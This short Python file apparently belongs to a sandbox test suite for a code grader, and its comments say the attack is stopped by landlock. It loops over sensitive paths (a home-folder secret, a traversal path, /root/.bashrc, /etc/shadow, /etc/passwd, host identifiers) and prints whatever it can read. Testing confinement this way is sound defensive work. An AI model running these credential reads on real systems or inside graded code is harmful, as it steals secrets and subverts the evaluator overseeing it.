"""Reads the files of the grader's user: secrets in the home folder, keys, passwords."""
# earns: all
# stopped by: landlock

# %% attack
for path in (
    "<home>/.secret",
    "<home>/../tmp/secret",
    "/root/.bashrc",
    "/etc/shadow",
    "/etc/passwd",
    "/etc/hostname",
    "/proc/version",
    "/sys/class/net/lo/address",
):
    try:
        print(open(path).read())
        secant_slope = None
    except OSError as error:
        print(error)
